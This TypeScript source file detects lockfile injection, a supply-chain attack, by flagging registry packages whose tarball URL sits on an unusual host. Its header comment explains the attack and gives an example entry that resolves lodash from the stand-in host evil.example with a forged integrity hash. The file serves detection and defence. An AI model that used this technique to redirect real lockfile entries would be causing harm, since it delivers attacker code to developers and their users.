import type {PackageSource} from './types.js';

/**
 * Lockfile injection: a lockfile edited so that one registry package installs from another host
 * (`"resolved": "https://evil.example/lodash-4.17.21.tgz"`). The registry entry, the name and the version all look
 * right; only the URL says otherwise, and nobody reads URLs in a 30,000-line diff. npm and yarn install from the
 * URL in the lockfile, integrity or not (the attacker writes the hash of their own tarball).
 *
 * What gives it away without knowing the user's registry: the host is one the rest of the lockfile does not use.
 * A lockfile written against a mirror (Artifactory, a proxy) has that mirror for nearly every package, so the
 * usual host is the one most registry packages come from; a package on another host is marked, unless that
 * host is a known alias of the usual one. A private registry for one scope is marked here too; the release
 * check then clears it when the package's registry entry came from that same host (its scope's registry).
 */

type Entry = {readonly source: PackageSource | undefined; readonly tarball: string | undefined};

/** Hosts that serve the same registry under other names (yarn classic writes `registry.yarnpkg.com`). */
const sameRegistry: Readonly<Record<string, string>> = {
	'registry.yarnpkg.com': 'registry.npmjs.org',
	'registry.npmjs.com': 'registry.npmjs.org',
};

/** The host a tarball URL is served from, aliases folded; null when it is not an http(s) URL. */
export function tarballHost(url: string): string | null {
	if (!/^https?:\/\//i.test(url) || !URL.canParse(url)) return null;
	const host = new URL(url).host.toLowerCase();
	return sameRegistry[host] ?? host;
}

/**
 * The registry packages whose tarball is on an outlying host, with their URL and the usual host. O(n log hosts).
 * The usual host is the one most registry packages with a URL use. Another host is an outlier when it serves
 * fewer packages than the usual one and at most three of them or under 5 % of all: one lodash pointed elsewhere is,
 * a lockfile half on a mirror (a registry switched halfway through a project's life) is not.
 */
export function foreignTarballs<T extends Entry>(
	entries: Iterable<T>,
): Map<T, {readonly url: string; readonly usualHost: string}> {
	const byHost = new Map<string, T[]>();
	for (const entry of entries) {
		if ((entry.source ?? 'registry') !== 'registry' || !entry.tarball) continue;
		const host = tarballHost(entry.tarball);
		if (host === null) continue;
		const list = byHost.get(host);
		if (list) list.push(entry);
		else byHost.set(host, [entry]);
	}

	const marked = new Map<T, {readonly url: string; readonly usualHost: string}>();
	if (byHost.size < 2) return marked;
	const ranked = [...byHost].sort((a, b) => b[1].length - a[1].length);
	const [usualHost, usual] = ranked[0]!;
	const total = ranked.reduce((sum, [, list]) => sum + list.length, 0);
	for (const [, list] of ranked.slice(1)) {
		// An outlier: a few packages, or a small share. A lockfile half on a mirror (a registry switched halfway)
		// is a lockfile of two sources, not an injected one.
		const outlier = list.length < usual.length && (list.length <= 3 || list.length * 20 < total);
		if (!outlier) continue;
		for (const entry of list) marked.set(entry, {url: entry.tarball!, usualHost});
	}

	return marked;
}
